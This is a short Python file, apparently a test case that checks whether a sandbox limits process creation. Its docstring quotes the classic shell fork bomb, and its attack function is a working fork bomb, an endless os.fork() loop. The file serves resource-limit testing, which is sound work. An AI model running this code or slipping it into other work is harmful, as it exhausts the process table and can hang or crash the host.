"""Breed.

Attacks: the process table.
How: the fork bomb, by os.fork and by subprocess.
Source: the ":(){ :|:& };:" of every textbook; getrlimit(2) on RLIMIT_NPROC, which root ignores.
Breach: it ends in anything but the limit of processes.
"""

import os

GROUP, ENDS = "resources", ("processes",)


def attack(outside):
    while True:
        os.fork()
